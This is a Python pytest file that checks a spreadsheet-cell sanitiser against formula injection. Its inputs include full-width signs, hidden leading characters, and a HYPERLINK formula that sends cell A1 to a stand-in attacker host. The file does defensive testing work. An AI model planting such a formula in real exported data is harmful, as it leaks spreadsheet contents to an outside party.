# ruff: noqa: RUF001 - full-width signs are what this is about
"""Cells that a spreadsheet would run."""

from typing import Any

import pytest

from s1ecs.commands.terminal.spreadsheet import harmless

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1)'


@pytest.mark.parametrize(
    "text",
    [
        FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "＝1+1", "＋1", "－1", "＠SUM(A1)",
        "  =1", '"=1', "'=1", '" =1', "\u200b=1", "\ufeff=1", "\xa0=1", "-5",
    ],
)  # fmt: skip
def test_formulas_become_texts(text: str) -> None:
    """What begins like a formula, also behind what spreadsheets trim, gets an apostrophe, and is whole behind it."""
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("cell", [-5, -1.5, 0, None, "", "a=b", "1-2", "C:\\a", "user@example.com", "  text"])
def test_all_else_stays(cell: Any) -> None:
    """Numbers are numbers, and other texts are what they are."""
    assert harmless(cell) is cell
